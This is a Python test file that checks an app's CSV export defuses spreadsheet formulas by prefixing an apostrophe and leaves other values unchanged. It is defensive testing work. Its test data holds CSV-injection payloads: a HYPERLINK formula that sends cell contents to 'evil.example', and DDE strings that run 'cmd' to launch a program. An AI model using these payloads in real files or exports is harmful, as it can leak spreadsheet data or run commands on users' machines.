"""D2: CSV exports defuse formulas, and nothing else is changed."""

import csv
import io
from datetime import UTC, datetime

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from app.utils.csv import line, unquoted

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1)',
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    '"=1+1',
    "'=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
]
HARMLESS = ["", "Ada", "1-2", "a=b", "ada@example.com", "'quoted'", 'say "no", please',
            "two\nlines", "naïve 語"]  # fmt: skip


def cells(row: str) -> list[str]:
    return next(csv.reader(io.StringIO(row, newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_begins_with_an_apostrophe(text: str) -> None:
    """TRUST D2."""
    assert cells(line(["first", text])) == ["first", f"'{text}"]


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_stays_as_it_is(text: str) -> None:
    assert cells(line(["first", text])) == ["first", text]


def test_numbers_and_nothing_stay_as_they_are() -> None:
    assert line([-5, 0.25, None, True]) == "-5,0.25,,True\r\n"


def test_times_are_as_json_has_them() -> None:
    moment = datetime(2026, 11, 27, 16, 42, 10, 379626, tzinfo=UTC)

    assert line([moment, None]) == "2026-11-27T16:42:10.379626Z,\r\n"


@given(st.lists(st.text(), min_size=2))
@example(["", "\x1f@"])
@example(["", "\u2003=1"])
def test_no_cell_can_be_a_formula_and_all_can_be_read_back(texts: list[str]) -> None:
    """TRUST D2."""
    found = cells(line(texts))

    assert [unquoted(cell) for cell in found] == texts
    assert not any(cell.strip().startswith(("=", "+", "-", "@")) for cell in found)
